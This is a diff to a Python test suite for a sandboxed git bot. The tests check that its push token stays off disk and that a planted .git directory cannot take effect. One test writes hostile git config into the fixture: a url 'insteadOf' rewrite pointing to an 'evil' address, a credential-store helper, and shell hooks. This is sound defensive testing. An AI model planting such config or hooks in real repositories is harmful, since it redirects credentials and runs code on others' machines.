@@ -3,6 +3,8 @@ the pull request, and do it all again without a second commit or pull request.""
 
 from __future__ import annotations
 
+import os
+import shutil
 import time
 import uuid
 from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
@@ -138,11 +140,11 @@ async def test_token_never_reaches_the_clone_on_disk(bot: Bot, fake: FakeGitHub)
         await ws.commit_all("Note")
         await ws.push()
         token = await bot.token()
-        config = (ws.path / ".git" / "config").read_text()
+        config = (ws.git_dir / "config").read_text()
         on_disk = [
             p
-            for p in (ws.path / ".git").rglob("*")
-            if p.is_file() and token.encode() in p.read_bytes()
+            for p in ws.path.parent.rglob("*")
+            if p.is_file() and not p.is_symlink() and token.encode() in p.read_bytes()
         ]
         remote = await ws.git("remote", "get-url", "origin")
 
@@ -158,7 +160,8 @@ async def test_partial_clone_fetches_old_versions_when_asked(bot: Bot, fake: Fak
     async with await bot.workspace() as ws:
         await ws.clone()
         filter_ = await ws.git("config", "remote.origin.partialclonefilter")
-        old = await ws.git("show", "HEAD~1:README.md")
+        # Only commands marked as talking to the remote get the token.
+        old = await ws.git("show", "HEAD~1:README.md", network=True)
 
     assert filter_.strip() == "blob:none"
     assert old == "# demo\n"
@@ -192,19 +195,37 @@ async def test_git_errors_carry_no_token(bot: Bot, fake: FakeGitHub) -> None:
     assert token not in str(caught.value)
 
 
-async def test_planted_git_config_and_hooks_are_ignored(bot: Bot, fake: FakeGitHub) -> None:
-    """Agent commands run in the work tree; what they write under .git must not redirect the
-    token or run on the host."""
+async def test_the_git_dir_lives_beside_the_work_tree(bot: Bot) -> None:
+    """The work tree has a `gitdir:` file (git inside the sandbox still works); the git dir
+    and the workspace directory are the bot's, and others may only pass through the latter."""
+    async with await bot.workspace() as ws:
+        await ws.clone()
+        dot_git = (ws.path / ".git").read_text()
+        inside_git = await ws.git("rev-parse", "--absolute-git-dir")
+        modes = (ws.path.parent.stat().st_mode & 0o777, ws.git_dir.stat().st_uid)
+        assert ws.git_dir.name == "git" and ws.git_dir.parent == ws.path.parent
+        git_dir = ws.git_dir
+
+    assert dot_git == f"gitdir: {git_dir}\n"
+    assert inside_git.strip() == str(git_dir)
+    assert modes == (0o711, os.getuid())
+
+
+async def test_planted_dot_git_directory_is_ignored(bot: Bot, fake: FakeGitHub) -> None:
+    """A command replaces the work tree's `.git` with a directory of its own: a config that
+    redirects the remote and stores credentials, hooks. The bot's git never reads it."""
     async with await bot.workspace() as ws:
         await ws.clone()
         await ws.checkout_branch("factory/issue-6-x")
+        (ws.path / ".git").unlink()
+        shutil.copytree(ws.git_dir, ws.path / ".git")
         config = ws.path / ".git" / "config"
-        original = config.read_text()
         config.write_text(
-            original + '[url "http://127.0.0.1:9/evil/"]\n\tinsteadOf = http://\n'
+            config.read_text() + '[url "http://127.0.0.1:9/evil/"]\n\tinsteadOf = http://\n'
             "[credential]\n\thelper = store\n"
         )
         marker = bot.root.parent / "hook-ran"  # outside the workspace, which is removed
+        (ws.path / ".git" / "hooks").mkdir(exist_ok=True)
         for name in ("post-commit", "pre-push", "reference-transaction"):
             hook = ws.path / ".git" / "hooks" / name
             hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
@@ -212,33 +233,12 @@ async def test_planted_git_config_and_hooks_are_ignored(bot: Bot, fake: FakeGitH
         (ws.path / "Y.md").write_text("y\n")
         sha = await ws.commit_all("Y")
         result = await ws.push()
-        restored = config.read_text()
+        tracked = await ws.git("ls-files")
 
     assert result.pushed and fake.branch_sha(REPO, "factory/issue-6-x") == sha
-    assert restored == original
     assert not marker.exists()
-
-
-async def test_planted_symlinks_under_git_are_not_followed(bot: Bot, tmp_path: Path) -> None:
-    outside = tmp_path / "outside.txt"
-    outside.write_text("precious\n")
-    async with await bot.workspace() as ws:
-        await ws.clone()
-        config = ws.path / ".git" / "config"
-        config.unlink()
-        config.symlink_to(outside)
-        head = await ws.head()  # runs git, restoring the real config first
-        restored = config.is_symlink(), '[remote "origin"]' in config.read_text()
-
-        git_dir = ws.path / ".git"
-        git_dir.rename(ws.path / "moved-git")
-        git_dir.symlink_to(ws.path / "moved-git")
-        with pytest.raises(GitError, match=r"replaced its \.git directory"):
-            await ws.head()
-
-    assert len(head) == 40
-    assert restored == (False, True)
-    assert outside.read_text() == "precious\n"
+    assert ".git" not in tracked
+    assert not (bot.root.parent / ".git-credentials").exists()
 
 
 async def test_clone_over_the_size_limit_is_refused_and_removed(bot: Bot, fake: FakeGitHub) -> None:
